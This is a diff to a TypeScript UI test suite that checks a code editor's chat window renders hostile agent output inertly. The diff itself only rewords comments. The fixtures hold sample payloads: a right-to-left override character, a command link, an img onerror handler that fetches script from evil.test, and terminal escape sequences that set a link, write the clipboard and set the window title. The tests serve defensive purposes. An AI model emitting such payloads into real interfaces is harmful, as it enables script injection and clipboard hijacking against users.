@@ -3,7 +3,7 @@ import { fakeAgent } from '../fakeAgent/definition';
 import type { Workbench } from './workbench';
 import { closeAfter, openWorkbench } from './workbench';
 
-/** Would open an editor if VS Code followed it anywhere, and would load a picture. */
+/** Would open an editor if VS Code followed it, and would load a picture. */
 const EVIL =
   'evil\u202e [run](command:workbench.action.files.newUntitledFile) ![p](https://evil.test/p.png) <img src="https://evil.test/i.png" onerror="fetch(\'https://evil.test/js\')"> $(trash)';
 const MARKDOWN = [
@@ -21,7 +21,7 @@ const update = (fields: object): string =>
 const text = (value: string): object => ({ type: 'content', content: { type: 'text', text: value } });
 const choices = [{ value: 'a', name: EVIL, description: EVIL }];
 
-/** A program of the workspace that writes what terminals may act on. */
+/** A program of the workspace that writes terminal control sequences. */
 const PROGRAM = String.raw`process.stdout.write('\x1b]8;;https://evil.test/osc\x07link\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x07\x1bP+q544e\x1b\\done\n')`;
 
 const SCRIPT = [
@@ -52,7 +52,7 @@ const SCRIPT = [
   'text The_end.',
 ];
 
-/** What an agent says in every field it has, in the real window: nothing of it is loaded, run or followed. */
+/** Hostile text in every field that an agent can send, in the real window: none of it is loaded, run or followed. */
 describe('hostile text in the workbench', () => {
   let workbench: Workbench;
 
@@ -90,12 +90,12 @@ describe('hostile text in the workbench', () => {
     await chat.locator('body').evaluate(watchPolicy);
     await chat.getByRole('textbox', { name: 'Message' }).fill(SCRIPT.join('\n'));
     await chat.getByRole('textbox', { name: 'Message' }).press('Enter');
-    // First of all: it leaves the screen after a while.
+    // Checked first: the notification disappears after a while.
     const toast = workbench.toast('evil').first();
     await toast.waitFor();
     assert.equal(await toast.locator('.notification-list-item-message a').count(), 0, 'a notification has a link');
     assert.equal(await toast.locator('.notification-list-item-message .codicon').count(), 0);
-    // The question shows the command with its hidden characters.
+    // The permission request shows the command with its hidden characters.
     const question = chat.locator('.question').first();
     await question.getByText('\\u{202e}').first().waitFor();
     await question.getByText('\\u{7}').first().waitFor();
@@ -121,20 +121,20 @@ describe('hostile text in the workbench', () => {
     assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'mine', 'OSC 52 sets no clipboard');
     assert.equal(await page.locator('.tab', { hasText: 'Untitled' }).count(), 0, 'a command link was followed');
     assert.deepEqual([strangers, dialogs, await chat.locator('body').evaluate(blocked)], [[], [], []]);
-    // The watch itself works: what the chat is made to try is seen, in its own frame.
+    // The observation works: what the chat is made to try is detected, in its own frame.
     await chat.locator('body').evaluate(tryBeacon);
     assert.match((await chat.locator('body').evaluate(blocked)).join(), /control\.test/);
   });
 });
 
-/** The server's own address, its webviews (a host name of their own), and what stands in the document itself. */
+/** Allowed: the server's own origin, its webviews (a separate host name), and resources inside the document. */
 function ownOrigin(url: string, window: string): boolean {
   if (/^(?:data|blob|vscode-\w+):/.test(url)) return true;
   const { hostname } = new URL(url);
   return hostname === new URL(window).hostname || /(?:^|\.)vscode-(?:cdn|resource)\.net$/.test(hostname);
 }
 
-/** These run in the chat's document: what its policy has stopped is what something in it has tried. */
+/** Run in the chat's document: a CSP violation shows what the document tried. */
 function watchPolicy(): void {
   const found: string[] = [];
   Object.assign(window, { blockedHere: found });
